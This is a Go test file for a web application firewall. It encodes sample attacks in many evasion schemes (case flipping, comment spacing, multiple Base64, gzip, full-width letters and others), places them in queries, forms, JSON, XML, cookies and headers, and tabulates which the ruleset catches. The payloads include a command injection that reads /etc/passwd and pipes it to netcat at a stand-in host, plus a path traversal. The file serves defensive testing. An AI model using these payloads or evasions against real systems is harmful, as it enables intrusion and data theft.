package waf

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"html"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"
)

var updateTable = flag.Bool("update", false, "write the table of evasions into docs/inspection.md")

// evasionPayloads are one attack of each kind that is common.
var evasionPayloads = []string{decodedSQL, decodedXSS, ";cat /etc/passwd|nc 192.0.2.1 99", "../../../../etc/passwd"}

// evasionWays are ways to write an attack so that rules don't see it while some
// applications do.
var evasionWays = []struct {
	name  string
	write func(string) string
}{
	{"as it is", func(s string) string { return s }},
	{"capitals and small letters in turn", func(s string) string {
		b := []byte(s)
		for i, c := range b {
			if i%2 == 0 && c >= 'a' && c <= 'z' {
				b[i] = c - 32
			}
		}
		return string(b)
	}},
	{"comments instead of spaces", func(s string) string { return strings.ReplaceAll(s, " ", "/**/") }},
	{"tabs and line feeds instead of spaces", func(s string) string { return strings.ReplaceAll(s, " ", "\t\n") }},
	{"a NUL in the middle", func(s string) string { return s[:len(s)/2] + "\x00" + s[len(s)/2:] }},
	{"percent-encoded once more", url.QueryEscape},
	{"percent-encoded twice more", func(s string) string { return url.QueryEscape(url.QueryEscape(s)) }},
	{"%uXXXX", func(s string) string {
		var b strings.Builder
		for _, r := range s {
			fmt.Fprintf(&b, "%%u%04x", r)
		}
		return b.String()
	}},
	{"HTML entities", func(s string) string { return html.EscapeString(s) }},
	{`\uXXXX`, encodings[10].encode},
	{"letters of full width", func(s string) string {
		return strings.Map(func(r rune) rune {
			if r > 0x20 && r < 0x7f {
				return r + 0xfee0
			}
			return r
		}, s)
	}},
	{"Base64", encodings[0].encode},
	{"Base64 for URLs, without padding", func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }},
	{"Base64 twice", encodings[3].encode},
	{"Base64 three times", func(s string) string { return encodings[3].encode(encodings[0].encode(s)) }},
	{"hex", func(s string) string { return hex.EncodeToString([]byte(s)) }},
	{"JSON in a value", encodings[11].encode},
	{"UTF-16 in Base64", func(s string) string {
		var b []byte
		for _, u := range utf16.Encode([]rune(s)) {
			b = append(b, byte(u), byte(u>>8))
		}
		return base64.StdEncoding.EncodeToString(b)
	}},
	{"gzip in Base64", func(s string) string {
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		z.Write([]byte(s))
		z.Close()
		return base64.StdEncoding.EncodeToString(b.Bytes())
	}},
	{"backwards", func(s string) string {
		b := []byte(s)
		for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
			b[i], b[j] = b[j], b[i]
		}
		return string(b)
	}},
}

// evasionPlaces are where an attack may stand.
var evasionPlaces = []struct {
	name string
	put  func(string) *Request
}{
	{"query", func(v string) *Request { return testRequest("/a?q="+url.QueryEscape(v), "", "") }},
	{"form", func(v string) *Request {
		return testRequest("/a", "application/x-www-form-urlencoded", "q="+url.QueryEscape(v))
	}},
	{"JSON", func(v string) *Request {
		b, _ := json.Marshal(map[string]any{"a": []string{v}})
		return testRequest("/a", "application/json", string(b))
	}},
	{"multipart", func(v string) *Request {
		return testRequest("/a", "multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n"+v+"\r\n--xyz--\r\n")
	}},
	{"file", func(v string) *Request {
		return testRequest("/a", "multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"q\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n"+v+"\r\n--xyz--\r\n")
	}},
	{"XML text", func(v string) *Request {
		return testRequest("/a", "text/xml", "<a><b>"+strings.ReplaceAll(html.EscapeString(v), "\x00", "")+"</b></a>")
	}},
	{"XML attribute", func(v string) *Request {
		return testRequest("/a", "text/xml", `<a b="`+strings.ReplaceAll(html.EscapeString(v), "\x00", "")+`"/>`)
	}},
	{"CSV", func(v string) *Request {
		return testRequest("/a", "text/csv", "id,name\n1,\""+strings.ReplaceAll(v, `"`, `""`)+"\"\n")
	}},
	{"text", func(v string) *Request { return testRequest("/a", "text/plain", v) }},
	{"cookie", func(v string) *Request {
		r := testRequest("/a", "", "")
		r.Header["Cookie"] = []string{"c=" + url.QueryEscape(v)}
		return r
	}},
	{"header", func(v string) *Request {
		r := testRequest("/a", "", "")
		r.Header["X-Search"] = []string{v}
		return r
	}},
}

// TestEvasions tries each way in each place, and holds the table in
// docs/inspection.md to the results, misses included.
func TestEvasions(t *testing.T) {
	t.Parallel()
	rs := testRuleset(t, Settings{Paranoia: 1})
	var b strings.Builder
	b.WriteString("| |")
	for _, p := range evasionPlaces {
		b.WriteString(" " + p.name + " |")
	}
	b.WriteString("\n|---|" + strings.Repeat("--:|", len(evasionPlaces)) + "\n")
	for _, w := range evasionWays {
		fmt.Fprintf(&b, "| %s |", strings.ReplaceAll(w.name, `\`, `\\`))
		for _, p := range evasionPlaces {
			found := 0
			for _, payload := range evasionPayloads {
				v, err := rs.run(p.put(w.write(payload)), rs.screened)
				if err != nil && asRefusal(err) == nil {
					t.Errorf("%s, %s: %v", w.name, p.name, err)
				}
				if v.Block || asRefusal(err) != nil {
					found++
				}
			}
			fmt.Fprintf(&b, " %d |", found)
			// What is no evasion has to be found wherever rules look.
			if w.name == "as it is" && found < len(evasionPayloads) && p.name != "file" && p.name != "XML attribute" && p.name != "header" {
				t.Errorf("in %s, only %d of %d attacks are found as they are", p.name, found, len(evasionPayloads))
			}
		}
		b.WriteString("\n")
	}
	t.Logf("attacks found, of %d:\n%s", len(evasionPayloads), &b)
	tableInDocs(t, "evasions", b.String())
}
